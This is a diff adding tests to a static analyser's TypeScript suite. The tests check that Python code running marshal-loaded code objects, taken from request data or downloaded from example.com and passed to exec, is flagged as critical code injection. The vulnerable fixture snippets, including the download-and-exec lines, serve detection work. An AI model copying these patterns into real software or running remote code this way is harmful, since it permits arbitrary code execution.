@@ -104,6 +104,68 @@ describe('marshal, its own weakness', () => {
   });
 });
 
+describe('a code object marshal returns that is run is code injection, whatever its bytes came from (issue 59, review of round 7)', () => {
+  const codeInjection = async (code: string) =>
+    (await findings(code)).filter((f) => f.ruleId === 'code-injection').map((f) => `${f.line}:${f.severity}`);
+  it.each([
+    [
+      "assigned to a function's __code__, then called",
+      route(
+        'import marshal',
+        '    def f():\n        pass\n    f.__code__ = marshal.loads(request.data)\n    return str(f())',
+      ),
+      ['8:critical'],
+    ],
+    [
+      'types.LambdaType',
+      route(
+        'import marshal, types',
+        '    code = marshal.loads(request.data)\n    return str(types.LambdaType(code, {})())',
+      ),
+      ['7:critical'],
+    ],
+    [
+      'type(lambda: 0)',
+      route(
+        'import marshal',
+        '    code = marshal.loads(request.data)\n    return str(type(lambda: 0)(code, {})())',
+      ),
+      ['7:critical'],
+    ],
+    [
+      'FunctionType with the code as a keyword',
+      route(
+        'import marshal, types',
+        '    code = marshal.loads(request.data)\n    return str(types.FunctionType(code=code, globals={})())',
+      ),
+      ['7:critical'],
+    ],
+    [
+      'downloaded with urllib and executed',
+      'import marshal, urllib.request\nexec(marshal.loads(urllib.request.urlopen("https://example.com/x").read()))\n',
+      ['2:critical'],
+    ],
+    [
+      'downloaded with requests and executed',
+      'import marshal, requests\nexec(marshal.loads(requests.get("https://example.com/x").content))\n',
+      ['2:critical'],
+    ],
+    // still quiet: the program's own file, and type() of anything but a lambda
+    [
+      "the program's own cache file",
+      'import marshal\nwith open("cache.bin", "rb") as f:\n    code = marshal.load(f)\nexec(code)\n',
+      [],
+    ],
+    [
+      'type(self) of request data',
+      `${FLASK}class V:\n    def copy(self):\n        return type(self)(request.args["x"])\n@app.route("/r")\ndef r():\n    return str(V().copy())\n`,
+      [],
+    ],
+  ])('%s', async (_what, code, expected) => {
+    expect(await codeInjection(code)).toEqual(expected);
+  });
+});
+
 describe("a nested function's return is not the route's response", () => {
   const helper = '    def clean(raw):\n        return re.sub(re.compile("<.*?>"), "", raw)\n';
   it.each([
